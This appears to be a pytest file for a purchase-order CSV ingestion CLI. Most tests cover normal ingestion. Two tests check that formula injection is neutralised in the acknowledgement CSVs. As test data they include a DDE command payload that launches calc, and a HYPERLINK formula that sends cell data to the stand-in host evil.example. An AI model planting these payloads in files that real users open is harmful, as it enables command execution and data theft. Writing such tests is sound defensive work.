"""``ordergate ingest FILE --customer ID --json`` with order tables, as a user runs it."""

import csv
import json
from pathlib import Path

from ordergate.cli import main

ROOT = Path(__file__).resolve().parents[2]
ORDER_TABLE = (
    "po_number,sku,quantity,uom,unit_price,ship_to_name,ship_to_street,ship_to_city,"
    "ship_to_postal_code,ship_to_country\n"
    "CLI-100,HW-1001,2,CS,16.50,Acme DC East,400 Industrial Pkwy,Columbus,43215,US\n"
    "CLI-100,HW-1002,1,CS,9.75,Acme DC East,400 Industrial Pkwy,Columbus,43215,US\n"
)


ORDER_COLUMNS = ["po_number", "buyer_part", "sku", "quantity", "uom", "unit_price", "ship_to_name",
                 "ship_to_street", "ship_to_city", "ship_to_postal_code", "ship_to_country"]
ACME_DC = ["Acme DC East", "400 Industrial Pkwy", "Columbus", "43215", "US"]


def run(capsys, *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    return code, capsys.readouterr().out


def seeded_home(tmp_path, monkeypatch, capsys) -> None:
    """A fresh ORDERGATE_HOME with the sample master data, as a user would set one up."""
    monkeypatch.setenv("ORDERGATE_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("ORDERGATE_DATABASE_URL", raising=False)
    assert run(capsys, "seed", str(ROOT / "samples" / "masterdata"))[0] == 0


def order_csv(tmp_path, *rows: list[str]) -> Path:
    """po.csv with ORDER_COLUMNS; each row gives the columns up to unit_price, shipped to
    Acme's DC."""
    path = tmp_path / "po.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(ORDER_COLUMNS)
        writer.writerows([*row, *ACME_DC] for row in rows)
    return path


def test_ingest_a_csv_for_the_customer_given_on_the_command_line(tmp_path, monkeypatch, capsys):
    seeded_home(tmp_path, monkeypatch, capsys)
    path = tmp_path / "po.csv"
    path.write_text(ORDER_TABLE, encoding="utf-8")

    code, out = run(capsys, "ingest", str(path), "--customer", "ACME", "--json")
    [document] = json.loads(out)["documents"]
    assert code == 0, document["error"]
    assert (document["format"], document["status"]) == ("csv", "processed")
    [order] = document["orders"]
    assert (order["po_number"], order["customer_id"], order["status"]) == ("CLI-100", "ACME",
                                                                           "accepted")
    [ack] = document["outbound"]
    assert (ack["kind"], ack["status"]) == ("csv-ack", "sent")
    ack_path = Path(ack["path"])
    assert ack_path.parent == tmp_path / "home" / "outbox" / "ACME"
    with ack_path.open(encoding="utf-8", newline="") as handle:
        acked = [(r["po_number"], r["order_id"], r["sku"], r["status"])
                 for r in csv.DictReader(handle)]
    assert acked == [("CLI-100", str(order["order_id"]), "HW-1001", "accepted"),
                     ("CLI-100", str(order["order_id"]), "HW-1002", "accepted")]

    code, out = run(capsys, "orders", "list", "--json")
    assert [(o["po_number"], o["customer_id"]) for o in json.loads(out)["orders"]] == [
        ("CLI-100", "ACME")]


def test_an_unknown_customer_on_the_command_line_fails_the_file(tmp_path, monkeypatch, capsys):
    seeded_home(tmp_path, monkeypatch, capsys)
    path = tmp_path / "po.csv"
    path.write_text(ORDER_TABLE, encoding="utf-8")

    code, out = run(capsys, "ingest", str(path), "--customer", "WAYNE", "--json")
    [document] = json.loads(out)["documents"]
    assert code == 1 and document["status"] == "failed"
    assert "--customer WAYNE" in document["error"] and "customers.csv" in document["error"]
    assert document["orders"] == [] and document["outbound"] == []


def test_the_ack_of_an_order_carrying_a_formula_shows_it_as_text_and_each_reason_once(
        tmp_path, monkeypatch, capsys):
    seeded_home(tmp_path, monkeypatch, capsys)
    formula = "=cmd|' /C calc'!A0"
    # line 1 is held for its price, line 2 names an item we do not know
    path = order_csv(tmp_path, ["CLI-200", formula, "HW-1001", "2", "CS", "99.00"],
                     ["CLI-200", "@SUM(1+1)", formula, "1", "CS", "9.75"])

    code, out = run(capsys, "ingest", str(path), "--customer", "ACME", "--json")
    [document] = json.loads(out)["documents"]
    [order] = document["orders"]
    assert order["status"] == "held"
    [ack] = document["outbound"]
    with Path(ack["path"]).open(encoding="utf-8", newline="") as handle:
        acked = list(csv.DictReader(handle))
    assert [(r["buyer_part"], r["status"]) for r in acked] == [
        ("'" + formula, "held"), ("'@SUM(1+1)", "unknown_item")]
    # inside a cell a formula is inert text: the reason quoting their part number stays as is
    assert acked[1]["reason"].startswith("line 2: unknown item") and formula in acked[1]["reason"]
    price_reason = next(r for r in order["hold_reasons"] if "PO price" in r)
    assert acked[0]["reason"].count(price_reason) == 1
    assert [r["quantity"] for r in acked] == ["2", "1"]


def test_formulas_behind_a_separator_in_the_po_number_and_buyer_part_are_quoted_in_the_ack(
        tmp_path, monkeypatch, capsys):
    # Excel set to ";" as separator (German locale) splits such a cell and runs its second half.
    seeded_home(tmp_path, monkeypatch, capsys)
    po_number = 'X;=HYPERLINK("http://evil.example/?"&A1;"click")'
    path = order_csv(tmp_path, [po_number, ";@SUM(1+1)", "HW-1001", "2", "CS", ""])

    code, out = run(capsys, "ingest", str(path), "--customer", "ACME", "--json")
    [document] = json.loads(out)["documents"]
    [ack] = document["outbound"]
    with Path(ack["path"]).open(encoding="utf-8", newline="") as handle:
        [acked] = list(csv.DictReader(handle))
    assert acked["po_number"] == 'X;\'=HYPERLINK("http://evil.example/?"&A1;"click")'
    assert acked["buyer_part"] == ";'@SUM(1+1)"
    # split at every ";" as that spreadsheet would, no piece starts a formula
    raw = Path(ack["path"]).read_text(encoding="utf-8")
    assert not any(piece.lstrip('"').startswith(("=", "@")) for line in raw.splitlines()
                   for cell in line.split(",") for piece in cell.split(";"))
